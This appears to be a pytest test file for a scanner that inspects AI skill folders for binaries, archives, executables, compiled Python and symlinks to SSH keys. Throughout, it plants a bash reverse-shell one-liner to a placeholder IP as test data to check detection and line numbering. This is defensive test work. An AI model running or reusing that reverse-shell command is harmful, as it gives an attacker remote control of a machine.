"""scan_skill_dir: the shape of a skill folder, and every text file in it.

Binaries, archives, compiled Python, executables, symlinks, executable bits, file
counts and unreadable files are judged by what the bytes are (sniffed, never taken
from the extension); text files of any name are scanned, big ones in chunks with
the right line numbers. Every file is built here, in a temporary folder.
"""

from __future__ import annotations

import importlib.util
import io
import os
import py_compile
import stat
import tarfile
import threading
import zipfile
from pathlib import Path

import pytest

from hermes_core.security import (
    Risk,
    Scanner,
    ScanResult,
    Verdict,
    scan_skill_dir,
    structure,
    verdict_for,
)

SCANNER = Scanner()
PAYLOAD = "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1"
SKILL_MD = "---\nname: sample\ndescription: A sample skill.\n---\n# Sample\n\nDo things.\n"


def _skill(tmp_path: Path, files: dict[str, bytes | str] | None = None) -> Path:
    skill = tmp_path / "skill"
    skill.mkdir()
    (skill / "SKILL.md").write_text(SKILL_MD, encoding="utf-8")
    for name, content in (files or {}).items():
        path = skill / name
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(content, str):
            path.write_text(content, encoding="utf-8")
        else:
            path.write_bytes(content)
    return skill


def _scan(skill: Path) -> ScanResult:
    result = scan_skill_dir(skill, SCANNER)
    assert result.verdict is verdict_for(result.findings)
    return result


def _by_file(result: ScanResult) -> dict[str, set[str]]:
    found: dict[str, set[str]] = {}
    for finding in result.findings:
        found.setdefault(finding.file, set()).add(finding.rule)
    return found


def _only(result: ScanResult, rule: str, file: str):
    matching = [f for f in result.findings if f.rule == rule and f.file == file]
    assert len(matching) == 1, result.findings
    return matching[0]


# -- binaries ------------------------------------------------------------------------


def test_a_binary_file_is_reported_as_binary_with_medium_risk(tmp_path):
    skill = _skill(tmp_path, {"blob.bin": bytes(range(256)) * 4})
    result = _scan(skill)
    finding = _only(result, "STR001", "blob.bin")
    assert finding.risk is Risk.MEDIUM
    assert result.verdict is Verdict.CAUTION


def test_a_binary_image_is_only_informational(tmp_path):
    png = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00"
    skill = _skill(tmp_path, {"assets/logo.png": png, "assets/photo.JPG": b"\xff\xd8\xff\xe0\x00"})
    result = _scan(skill)
    assert _only(result, "STR001", "assets/logo.png").risk is Risk.INFO
    assert _only(result, "STR001", "assets/photo.JPG").risk is Risk.INFO
    assert result.verdict is Verdict.SAFE


def test_binary_content_is_sniffed_even_behind_a_text_extension(tmp_path):
    skill = _skill(tmp_path, {"README.txt": b"\x00\x01\x02\x03" * 64})
    result = _scan(skill)
    assert _only(result, "STR001", "README.txt").risk is Risk.MEDIUM


def test_zip_and_tar_archives_are_reported_as_archives(tmp_path):
    skill = _skill(tmp_path)
    with zipfile.ZipFile(skill / "bundle.zip", "w") as archive:
        archive.writestr("payload.sh", PAYLOAD + "\n")
    for name, mode in (("bundle.tar", "w"), ("bundle.tar.gz", "w:gz"), ("data.bin", "w:bz2")):
        with tarfile.open(skill / name, mode) as archive:
            member = tarfile.TarInfo("payload.sh")
            member.size = len(PAYLOAD)
            archive.addfile(member, io.BytesIO(PAYLOAD.encode()))
    result = _scan(skill)
    found = _by_file(result)
    for name in ("bundle.zip", "bundle.tar", "bundle.tar.gz", "data.bin"):
        assert found[name] == {"STR002"}, (name, result.findings)


def test_compiled_python_is_reported_as_unreviewable_code(tmp_path):
    source = tmp_path / "helper.py"
    source.write_text("print('hi')\n", encoding="utf-8")
    skill = _skill(tmp_path)
    py_compile.compile(str(source), cfile=str(skill / "__pycache__" / "helper.cpython.pyc"))
    result = _scan(skill)
    finding = _only(result, "STR003", "__pycache__/helper.cpython.pyc")
    assert finding.risk is Risk.HIGH
    assert result.verdict is Verdict.DANGEROUS


def test_compiled_python_renamed_without_its_suffix_is_still_compiled_python(tmp_path):
    source = tmp_path / "helper.py"
    source.write_text("print('hi')\n", encoding="utf-8")
    skill = _skill(tmp_path)
    py_compile.compile(str(source), cfile=str(skill / "helper.dat"))
    assert (skill / "helper.dat").read_bytes()[:4] == importlib.util.MAGIC_NUMBER
    result = _scan(skill)
    assert _by_file(result)["helper.dat"] == {"STR003"}


@pytest.mark.parametrize(
    ("python", "magic"),
    [("3.11", b"\xa7\r\r\n"), ("3.12", b"\xcb\r\r\n"), ("3.13", b"\xf3\r\r\n")],
)
def test_compiled_python_from_every_supported_version_is_recognised_by_its_magic(
    tmp_path, python, magic
):
    # The header py_compile writes: magic, flags, mtime, size, then the marshalled code.
    pyc = magic + b"\x00" * 12 + b"\xe3" + b"\x00" * 40
    skill = _skill(tmp_path, {"cache.bin": pyc})
    result = _scan(skill)
    assert _by_file(result)["cache.bin"] == {"STR003"}, python


@pytest.mark.parametrize(
    ("name", "header"),
    [
        ("tool", b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56),
        ("tool.exe", b"MZ\x90\x00" + b"\x00" * 56 + b"\x80\x00\x00\x00" + b"\x00" * 64 + b"PE\0\0"),
        ("tool-macho", b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + b"\x00" * 24),
        ("tool-macho32", b"\xce\xfa\xed\xfe\x07\x00\x00\x00" + b"\x00" * 24),
        ("tool-fat", b"\xca\xfe\xba\xbe\x00\x00\x00\x02" + b"\x00" * 24),
    ],
)
def test_executables_are_recognised_by_their_header(tmp_path, name, header):
    skill = _skill(tmp_path, {name: header})
    result = _scan(skill)
    finding = _only(result, "STR004", name)
    assert finding.risk is Risk.HIGH
    assert result.verdict is Verdict.DANGEROUS


def test_a_text_file_starting_with_mz_is_text_not_a_windows_program(tmp_path):
    skill = _skill(tmp_path, {"notes.txt": "MZ stands for Mark Zbikowski.\n" + PAYLOAD + "\n"})
    result = _scan(skill)
    assert _by_file(result)["notes.txt"] == {"NET001"}


# -- symlinks ------------------------------------------------------------------------


def test_a_symlink_to_a_file_outside_the_skill_is_reported(tmp_path):
    outside = tmp_path / "id_rsa"
    outside.write_text("secret\n", encoding="utf-8")
    skill = _skill(tmp_path)
    (skill / "key").symlink_to(outside)
    (skill / "etc").symlink_to("/etc")
    result = _scan(skill)
    assert _only(result, "STR005", "key").risk is Risk.CRITICAL  # a key is named: worst
    assert _only(result, "STR005", "etc").risk is Risk.HIGH
    assert result.verdict is Verdict.DANGEROUS


def test_a_symlink_is_judged_by_its_target_not_by_whether_this_machine_has_it(tmp_path):
    skill = _skill(tmp_path)
    (skill / "deploy_key").symlink_to("../../../../.ssh/id_ed25519")  # nothing there here
    (skill / "notes").symlink_to("../../elsewhere/notes.md")
    (skill / "gone").symlink_to("missing-inside.md")
    result = _scan(skill)
    key = _only(result, "STR005", "deploy_key")
    assert key.risk is Risk.CRITICAL
    assert "SSH private key" in key.message
    assert _only(result, "STR005", "notes").risk is Risk.HIGH
    assert _only(result, "STR006", "gone").risk is Risk.LOW
    assert result.verdict is Verdict.DANGEROUS


def test_a_symlink_to_a_file_inside_the_skill_is_fine(tmp_path):
    skill = _skill(tmp_path, {"references/a.md": "# A\n"})
    (skill / "alias.md").symlink_to("references/a.md")
    (skill / "refs").symlink_to("references", target_is_directory=True)
    result = _scan(skill)
    assert result.findings == ()
    assert result.verdict is Verdict.SAFE


def test_a_relative_symlink_climbing_out_of_the_skill_is_reported(tmp_path):
    (tmp_path / "elsewhere.md").write_text("x\n", encoding="utf-8")
    skill = _skill(tmp_path)
    (skill / "sneaky.md").symlink_to("../elsewhere.md")
    result = _scan(skill)
    assert _by_file(result)["sneaky.md"] == {"STR005"}


def test_a_broken_symlink_is_reported_with_low_risk(tmp_path):
    skill = _skill(tmp_path)
    (skill / "gone.md").symlink_to("missing/target.md")
    result = _scan(skill)
    finding = _only(result, "STR006", "gone.md")
    assert finding.risk is Risk.LOW
    assert "missing/target.md" in finding.message
    assert result.verdict is Verdict.SAFE


def test_a_symlink_inside_the_skill_is_judged_but_its_target_is_not_scanned_twice(tmp_path):
    skill = _skill(tmp_path, {"run.sh": PAYLOAD + "\n"})
    (skill / "again.sh").symlink_to("run.sh")
    result = _scan(skill)
    assert [f.file for f in result.findings if f.rule == "NET001"] == ["run.sh"]


def test_symlink_loops_are_reported_without_hanging(tmp_path):
    skill = _skill(tmp_path, {"sub/inner.md": "# Inner\n"})
    (skill / "ping").symlink_to("pong")
    (skill / "pong").symlink_to("ping")
    (skill / "self").symlink_to("self")
    (skill / "sub" / "up").symlink_to("..", target_is_directory=True)
    (skill / "sub" / "here").symlink_to(".", target_is_directory=True)
    (skill / "ancestor").symlink_to(tmp_path, target_is_directory=True)
    results: list[ScanResult] = []
    worker = threading.Thread(target=lambda: results.append(_scan(skill)), daemon=True)
    worker.start()
    worker.join(timeout=30)
    assert not worker.is_alive(), "scanning a folder with symlink loops did not finish"
    [result] = results
    found = _by_file(result)
    assert found["ping"] == {"STR006"}
    assert found["pong"] == {"STR006"}
    assert found["self"] == {"STR006"}
    assert found["ancestor"] == {"STR005"}
    assert "sub/up" not in found
    assert "sub/here" not in found
    # Each link is one entry; no folder is walked through a link.
    assert result.files_scanned == 8


# -- counts and sizes ------------------------------------------------------------------


def test_more_than_max_files_files_is_reported_once(tmp_path):
    skill = _skill(tmp_path)
    for index in range(structure.MAX_FILES):  # with SKILL.md: MAX_FILES + 1 files
        (skill / f"f{index:04}.md").write_text("ok\n", encoding="utf-8")
    result = _scan(skill)
    large = [f for f in result.findings if f.rule == "STR007"]
    assert len(large) == 1, large
    assert str(structure.MAX_FILES) in large[0].message
    assert result.files_scanned == structure.MAX_FILES + 1


def test_exactly_max_files_files_is_not_too_many(tmp_path):
    skill = _skill(tmp_path)
    for index in range(structure.MAX_FILES - 1):
        (skill / f"f{index:04}.md").write_text("ok\n", encoding="utf-8")
    result = _scan(skill)
    assert result.files_scanned == structure.MAX_FILES
    assert "STR007" not in {f.rule for f in result.findings}


def test_more_than_max_total_bytes_is_reported(tmp_path, monkeypatch):
    monkeypatch.setattr(structure, "MAX_TOTAL_BYTES", 1000)
    skill = _skill(tmp_path, {"a.md": "a" * 600 + "\n", "b.md": "b" * 600 + "\n"})
    result = _scan(skill)
    [large] = [f for f in result.findings if f.rule == "STR007"]
    assert large.file == "."
    assert large.risk is Risk.MEDIUM


def test_files_and_bytes_scanned_count_every_file_and_its_size(tmp_path):
    files: dict[str, bytes | str] = {
        "references/a.md": "# A\n",
        "scripts/run.sh": "#!/bin/sh\necho hi\n",
        "assets/logo.png": b"\x89PNG\r\n\x1a\n\x00\x00",
        "empty.txt": "",
    }
    skill = _skill(tmp_path, files)
    (skill / "alias.md").symlink_to("references/a.md")
    result = _scan(skill)
    sizes = sum(p.stat().st_size for p in skill.rglob("*") if p.is_file() and not p.is_symlink())
    assert result.files_scanned == len(files) + 2  # SKILL.md and the symlink
    assert result.bytes_scanned == sizes


def test_findings_list_skill_md_first_then_files_by_path(tmp_path):
    skill = _skill(tmp_path, {"b.sh": PAYLOAD + "\n", "a.sh": PAYLOAD + "\n"})
    (skill / "SKILL.md").write_text(SKILL_MD + PAYLOAD + "\n", encoding="utf-8")
    result = _scan(skill)
    assert [f.file for f in result.findings if f.rule == "NET001"] == ["SKILL.md", "a.sh", "b.sh"]


# -- executable bits ---------------------------------------------------------------------


def test_an_executable_text_file_without_a_shebang_is_reported(tmp_path):
    skill = _skill(tmp_path, {"notes.txt": "just notes\n", "run": "#!/bin/sh\necho hi\n"})
    skill.joinpath("run.sh").write_text("echo hi\n", encoding="utf-8")
    for name in ("notes.txt", "run", "run.sh"):
        os.chmod(skill / name, 0o755)
    result = _scan(skill)
    found = _by_file(result)
    assert found == {"notes.txt": {"STR008"}}
    assert _only(result, "STR008", "notes.txt").risk is Risk.LOW


def test_a_text_file_without_the_executable_bit_is_not_reported(tmp_path):
    skill = _skill(tmp_path, {"notes.txt": "just notes\n"})
    os.chmod(skill / "notes.txt", 0o644)
    assert _scan(skill).findings == ()


# -- unreadable and special files ----------------------------------------------------------


@pytest.mark.skipif(os.geteuid() == 0, reason="root reads a file whatever its mode")
def test_an_unreadable_file_is_reported_not_raised(tmp_path):
    skill = _skill(tmp_path, {"secret.md": "x\n"})
    os.chmod(skill / "secret.md", 0)
    try:
        result = _scan(skill)
    finally:
        os.chmod(skill / "secret.md", stat.S_IRUSR | stat.S_IWUSR)
    finding = _only(result, "STR009", "secret.md")
    assert finding.risk is Risk.MEDIUM


def test_a_file_that_fails_to_open_is_reported_not_raised(tmp_path, monkeypatch):
    skill = _skill(tmp_path, {"secret.md": "x\n"})
    real_open = open

    def failing_open(path, *args, **kwargs):
        if str(path).endswith("secret.md"):
            raise PermissionError(13, "Permission denied")
        return real_open(path, *args, **kwargs)

    monkeypatch.setattr(structure, "open", failing_open, raising=False)
    result = _scan(skill)
    assert _only(result, "STR009", "secret.md").message.endswith("(Permission denied)")
    assert result.files_scanned == 2


def test_a_named_pipe_is_skipped_without_blocking(tmp_path):
    skill = _skill(tmp_path)
    os.mkfifo(skill / "pipe")
    results: list[ScanResult] = []
    worker = threading.Thread(target=lambda: results.append(_scan(skill)), daemon=True)
    worker.start()
    worker.join(timeout=30)
    assert not worker.is_alive(), "scanning a folder holding a named pipe blocked"
    [result] = results
    assert result.findings == ()


# -- text files of any name and encoding --------------------------------------------------


def test_a_non_utf8_text_file_is_still_scanned(tmp_path):
    latin1 = "Café notes — voilà\n".encode("latin-1", "replace") + (PAYLOAD + "\n").encode()
    skill = _skill(tmp_path, {"notes.md": latin1})
    result = _scan(skill)
    assert _only(result, "NET001", "notes.md").range.start.line == 1


def test_a_utf16_text_file_with_a_bom_is_decoded_and_scanned(tmp_path):
    skill = _skill(tmp_path, {"notes.txt": ("hello\n" * 3 + PAYLOAD + "\n").encode("utf-16")})
    result = _scan(skill)
    assert _only(result, "NET001", "notes.txt").range.start.line == 3


@pytest.mark.parametrize(
    "name", ["payload.dat", "Makefile.in", "noextension", "image.png", ".hidden"]
)
def test_text_files_are_scanned_whatever_their_name(tmp_path, name):
    skill = _skill(tmp_path, {name: "intro\n" + PAYLOAD + "\n"})
    result = _scan(skill)
    finding = _only(result, "NET001", name)
    assert finding.range.start.line == 1
    assert result.verdict is Verdict.DANGEROUS


def test_a_payload_after_100000_blank_lines_is_found_on_its_line(tmp_path):
    skill = _skill(tmp_path, {"notes.txt": "\n" * 100_000 + PAYLOAD + "\n"})
    result = _scan(skill)
    assert _only(result, "NET001", "notes.txt").range.start.line == 100_000


def test_a_payload_after_100000_crlf_blank_lines_is_found_on_its_line(tmp_path):
    skill = _skill(tmp_path, {"notes.txt": b"\r\n" * 100_000 + PAYLOAD.encode() + b"\r\n"})
    result = _scan(skill)
    assert _only(result, "NET001", "notes.txt").range.start.line == 100_000


# -- big files, scanned in chunks ----------------------------------------------------------


@pytest.fixture
def small_chunks(monkeypatch):
    monkeypatch.setattr(structure, "CHUNK_CHARS", 4096)
    return 4096


def _numbered_lines(count: int, payload_lines: set[int], newline: str = "\n") -> str:
    return "".join(
        (PAYLOAD if n in payload_lines else f"line {n} of filler text") + newline
        for n in range(count)
    )


def test_a_big_file_is_scanned_in_chunks_with_the_right_line_numbers(tmp_path, small_chunks):
    payload_lines = {3, 1500, 2999, 5000}
    text = _numbered_lines(5200, payload_lines)
    assert len(text.encode()) > 20 * small_chunks
    skill = _skill(tmp_path, {"big.txt": text})
    result = _scan(skill)
    hits = [f for f in result.findings if f.file == "big.txt"]
    assert sorted(f.range.start.line for f in hits) == sorted(payload_lines)
    assert {f.rule for f in hits} == {"NET001"}
    assert all(f.range.start.character == 0 for f in hits)


def test_a_chunked_scan_finds_what_a_whole_scan_finds(tmp_path, monkeypatch):
    text = _numbered_lines(4000, {10, 777, 2048, 3999})
    skill = _skill(tmp_path, {"big.sh": text})
    whole = _scan(skill)
    monkeypatch.setattr(structure, "CHUNK_CHARS", 4096)
    chunked = _scan(skill)

    def key(result: ScanResult) -> list[tuple[str, str, tuple[int, int]]]:
        return [(f.file, f.rule, tuple(f.range.start)) for f in result.findings]

    assert key(chunked) == key(whole)


def test_a_line_cut_by_a_chunk_boundary_is_scanned_whole(tmp_path, small_chunks):
    # The first read is 8 KiB of sniffed head plus one chunk: put the payload across it.
    boundary = 8192 + small_chunks
    filler = "f" * 63 + "\n"
    lines_before = boundary // len(filler) - 1
    text = filler * lines_before + "x" * 40 + " " + PAYLOAD + "\n" + filler * 200
    start = len(filler) * lines_before
    assert start < boundary < start + 41 + len(PAYLOAD)
    skill = _skill(tmp_path, {"big.txt": text})
    result = _scan(skill)
    finding = _only(result, "NET001", "big.txt")
    assert tuple(finding.range.start) == (lines_before, 41)


def test_a_payload_after_100000_blank_lines_in_a_chunked_file_is_on_its_line(
    tmp_path, small_chunks
):
    skill = _skill(tmp_path, {"notes.txt": "\n" * 100_000 + PAYLOAD + "\n" + "\n" * 5000})
    result = _scan(skill)
    assert _only(result, "NET001", "notes.txt").range.start.line == 100_000


def test_a_chunked_file_reports_each_payload_once(tmp_path, small_chunks):
    text = _numbered_lines(3000, set(range(0, 3000, 97)))
    skill = _skill(tmp_path, {"big.txt": text})
    result = _scan(skill)
    starts = [(f.rule, tuple(f.range.start)) for f in result.findings]
    assert len(starts) == len(set(starts))
    assert len(starts) == len(range(0, 3000, 97))


def test_a_chunked_file_with_crlf_lines_keeps_its_line_numbers(tmp_path, small_chunks):
    text = _numbered_lines(3000, {2500}, newline="\r\n")
    skill = _skill(tmp_path, {"big.txt": text.encode()})
    result = _scan(skill)
    assert _only(result, "NET001", "big.txt").range.start.line == 2500


def test_a_chunked_file_with_old_mac_cr_lines_keeps_its_line_numbers(tmp_path, small_chunks):
    # Lone \r ends a line for the scanner (as in LSP); a small file gets this right.
    text = _numbered_lines(3000, {2500}, newline="\r")
    skill = _skill(tmp_path, {"big.txt": text.encode()})
    result = _scan(skill)
    assert _only(result, "NET001", "big.txt").range.start.line == 2500


def test_a_payload_at_the_end_of_one_enormous_line_has_its_real_column(tmp_path, small_chunks):
    text = "x" * 20_000 + " " + PAYLOAD
    skill = _skill(tmp_path, {"bundle.js": text})
    result = _scan(skill)
    finding = _only(result, "NET001", "bundle.js")
    assert tuple(finding.range.start) == (0, 20_001)


def test_a_big_utf16_file_is_scanned_in_every_chunk(tmp_path, small_chunks):
    text = _numbered_lines(3000, {2500})
    skill = _skill(tmp_path, {"big.txt": text.encode("utf-16")})
    result = _scan(skill)
    assert _only(result, "NET001", "big.txt").range.start.line == 2500


def test_a_file_that_grew_after_it_was_looked_at_is_still_read_to_the_end(
    tmp_path, small_chunks, monkeypatch
):
    text = _numbered_lines(2000, {1990})
    skill = _skill(tmp_path, {"grows.txt": text})
    real_lstat = os.lstat

    def small_when_looked_at(path, *args, **kwargs):
        info = real_lstat(path, *args, **kwargs)
        if str(path).endswith("grows.txt"):  # it was tiny when its size was read
            fields = list(info)
            fields[stat.ST_SIZE] = 10
            return os.stat_result(fields)
        return info

    monkeypatch.setattr(structure.os, "lstat", small_when_looked_at)
    result = _scan(skill)
    lines = [f.range.start.line for f in result.findings if f.file == "grows.txt"]
    assert lines == [1990]
